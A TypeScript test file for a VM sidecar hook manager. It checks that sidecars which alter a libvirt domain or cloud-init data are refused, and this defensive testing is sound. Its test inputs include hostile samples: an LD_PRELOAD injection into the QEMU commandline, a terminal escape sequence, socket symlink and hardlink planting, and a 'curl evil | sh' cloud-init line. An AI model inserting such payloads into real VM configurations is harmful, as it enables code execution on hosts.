/** The host knows what each sidecar's plan makes of a domain: another answer, another socket or none in time ends the start. */
import { chownSync, linkSync, mkdirSync, symlinkSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { anAttachment } from "@netbind/contract/testing";
import type { AttachedNic } from "@netbind/engine";
import { nicDomain, patchDomain } from "@netbind/domain";
import { defineBootDomain, expectedSidecars, type HookDeadlines, HookManager } from "@netbind/pod";
import passt from "@netbind/plugin-passt";
import { expect, test } from "vitest";
import { unchangedCloudInit } from "../../core/pod/src/hooks/hook-cloud-init.ts";
import { HookPod } from "../support/kube/hook-pod.ts";
import { type HookCall, serveThirdParty, type ThirdParty } from "../support/kube/third-party-sidecar.ts";

const DOMAIN = `<domain type='kvm' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
  <name>vm</name>
  <devices>
    <emulator>/usr/bin/qemu-system-x86_64</emulator>
    <disk type='file' device='disk'>
      <source file='/netbind/disks/disk-0.iso'/>
    </disk>
  </devices>
</domain>
`;
const CONTAINER = "hook-sidecar-0";
const QUICK: HookDeadlines = { collect: 1500, round: 1500 };
const vmi = { spec: { domain: { devices: { interfaces: [{ name: "red" }] } } } };
const attachment = anAttachment();
const plan = await passt.plan(attachment);
const nics = [{ nic: { binding: "third" }, attachment, plan }] as unknown as readonly AttachedNic[];
/** What a sidecar that runs our runtime answers. */
const honest = (xml: string): string => patchDomain(xml, nicDomain(attachment), plan.domain);

const third: ThirdParty = {
  directory: CONTAINER,
  socket: "third.sock",
  points: [{ name: "OnDefineDomain", priority: 0 }],
  domain: honest,
};

/** What became of a VM's domain. */
interface Played {
  readonly domain?: string;
  readonly error?: { readonly code?: string; readonly message: string };
}

/** Starts a VM with one sidecar, as far as its domain. */
async function define(
  sidecar: ThirdParty,
  prepare?: (pod: HookPod) => Promise<Disposable | undefined>,
): Promise<Played> {
  await using pod = new HookPod();
  chownSync(pod.hooks, 0, 0);
  using served = new DisposableStack();
  const calls: HookCall[] = [];
  served.use(await serveThirdParty(pod.hooks, sidecar, calls));
  served.use(await prepare?.(pod));
  try {
    const place = { hooks: pod.hooks, uid: 0 };
    await using hooks = await HookManager.collect(
      place,
      expectedSidecars({ third: { container: CONTAINER } }, nics),
      QUICK,
    );
    return { domain: await defineBootDomain(DOMAIN, vmi as never, hooks) };
  } catch (error) {
    return { error: error as NonNullable<Played["error"]> };
  }
}

test("a sidecar that does what its plan says defines the domain", async () => {
  const { domain, error } = await define(third);
  expect(error).toBeUndefined();
  expect(domain).toBe(honest(DOMAIN));
  expect(domain).not.toBe(DOMAIN);
});

test.each<readonly [string, (xml: string) => string, RegExp]>([
  [
    "native code for QEMU",
    (xml) =>
      honest(xml).replace(
        "</domain>",
        "  <qemu:commandline>\n    <qemu:env name='LD_PRELOAD' value='/netbind/x.so'/>\n  </qemu:commandline>\n</domain>",
      ),
    /expected "<\/domain>", answered " {2}<qemu:commandline>"/,
  ],
  ["another disk", (xml) => honest(xml).replace("disk-0.iso", "disk-1.iso"), /disk-0\.iso.*disk-1\.iso/],
  ["one space", (xml) => honest(xml).replace("<name>", "<name> "), /line 2, character 9/],
  ["a space behind the end", (xml) => `${honest(xml)} `, /expected "" \(its end\), answered " "/],
  ["another emulator", (xml) => honest(xml).replace("qemu-system-x86_64", "evil"), /emulator/],
  ["nothing of its NIC", (xml) => xml, /expected " {2}<memoryBacking>", answered " {2}<devices>"/],
  ["no domain", () => "", /answered "" \(its end\)/],
  ["control characters", (xml) => honest(xml).replace("<name>vm", "<name>\u001b[2Jvm"), /answered " {2}<name>\?\[2Jvm/],
] as const)(
  "a sidecar that answers with %s is refused, with the first difference",
  async (_what, domain, difference) => {
    const { error } = await define({ ...third, domain });
    expect(error?.code).toBe("PLUGIN_FAILED");
    expect(error?.message).toContain(
      'the sidecar of binding "third" (container hook-sidecar-0) answered OnDefineDomain with a domain that differs',
    );
    expect(error?.message).toMatch(difference);
    expect([...(error?.message ?? "")].every((character) => character >= " ")).toBe(true);
  },
);

test("a sidecar that does not subscribe, and whose plan changes the domain, is refused", async () => {
  const { error } = await define({ ...third, points: [] });
  expect(error?.message).toMatch(
    /\(container hook-sidecar-0\) does not subscribe to OnDefineDomain, and its plan changes the domain/,
  );
});

test("two sockets of one container are refused, and so is a directory of no sidecar", async () => {
  const two = await define(third, async (pod) => {
    linkSync(join(pod.hooks, CONTAINER, third.socket), join(pod.hooks, CONTAINER, "fourth.sock"));
    return undefined;
  });
  expect(two.error?.message).toContain('(container hook-sidecar-0) has 2 hook sockets: "fourth.sock", "third.sock"');
  const other = await define(third, async (pod) =>
    serveThirdParty(pod.hooks, { ...third, directory: "hook-sidecar-7", socket: "x.sock" }, []),
  );
  expect(other.error?.message).toContain('holds "hook-sidecar-7", which does not belong to a sidecar of this pod');
});

test("a link in the place of a hook socket, and one of another user, are not dialed", async () => {
  await using elsewhere = new HookPod();
  const calls: HookCall[] = [];
  using _ = await serveThirdParty(elsewhere.hooks, third, calls);
  const real = join(elsewhere.hooks, CONTAINER, third.socket);
  const outcomes = [];
  for (const plant of [(path: string) => symlinkSync(real, path), (path: string) => linkSync(real, path)]) {
    await using pod = new HookPod();
    chownSync(pod.hooks, 0, 0);
    mkdirSync(join(pod.hooks, CONTAINER));
    plant(join(pod.hooks, CONTAINER, third.socket));
    // The second one is a real socket, and its owner is not the sidecars' user.
    const collected = HookManager.collect(
      { hooks: pod.hooks, uid: 107 },
      expectedSidecars({ third: { container: CONTAINER } }, nics),
      QUICK,
    );
    outcomes.push(
      await collected.then(
        () => "collected",
        (error: Error) => error.message,
      ),
    );
  }
  expect(outcomes).toEqual([
    expect.stringContaining("did not serve a hook socket"),
    expect.stringContaining("belongs to uid 0, not to 107"),
  ]);
  expect(calls).toEqual([]);
});

test("sidecars have one deadline together for each round of a hook: what each takes adds up", async () => {
  await using pod = new HookPod();
  chownSync(pod.hooks, 0, 0);
  using served = new DisposableStack();
  const directories = ["hook-sidecar-0", "hook-sidecar-1", "hook-sidecar-2"];
  const calls: HookCall[] = [];
  for (const [at, directory] of directories.entries())
    served.use(
      await serveThirdParty(
        pod.hooks,
        { ...third, directory, socket: `${at}.sock`, domain: String, answersAfter: 800 },
        calls,
      ),
    );
  const recorded = Object.fromEntries(directories.map((container) => [container, { container }]));
  await using hooks = await HookManager.collect({ hooks: pod.hooks, uid: 0 }, expectedSidecars(recorded, nics), QUICK);
  await expect(hooks.onDefineDomain(DOMAIN, vmi)).rejects.toThrow(
    /\(container hook-sidecar-1\) did not answer OnDefineDomain: no answer/,
  );
  // With a deadline of its own the second would have answered.
  expect(calls.map(({ sidecar, hook }) => `${hook} ${sidecar}`)).not.toContain("OnDefineDomain hook-sidecar-2");
});

test("a sidecar that shows no socket, or one on which nobody speaks, does not hold the start", async () => {
  await using pod = new HookPod();
  chownSync(pod.hooks, 0, 0);
  const expected = expectedSidecars({ third: { container: CONTAINER } }, nics);
  const collect = (): Promise<HookManager> => HookManager.collect({ hooks: pod.hooks, uid: 0 }, expected, QUICK);
  await expect(collect()).rejects.toThrow(
    /0 of 1 sidecars were collected in 1500 ms: .*\(container hook-sidecar-0\) did not serve a hook socket/,
  );
  mkdirSync(join(pod.hooks, CONTAINER));
  const mute = createServer(() => undefined);
  await new Promise<void>((resolve) => mute.listen(join(pod.hooks, CONTAINER, "mute.sock"), resolve));
  try {
    await expect(collect()).rejects.toThrow(/no answer came within/);
  } finally {
    mute.close();
  }
});

test("cloud-init's data stays as its author wrote it", () => {
  const sent = { DataSource: "noCloud", UserData: "#!/bin/sh", NetworkData: "" };
  expect(unchangedCloudInit(sent, { ...sent })).toBe(sent);
  expect(() => unchangedCloudInit(sent, { ...sent, UserData: "#!/bin/sh\ncurl evil | sh" })).toThrow(
    /changed the VM's cloud-init data in its answer to PreCloudInitIso/,
  );
});
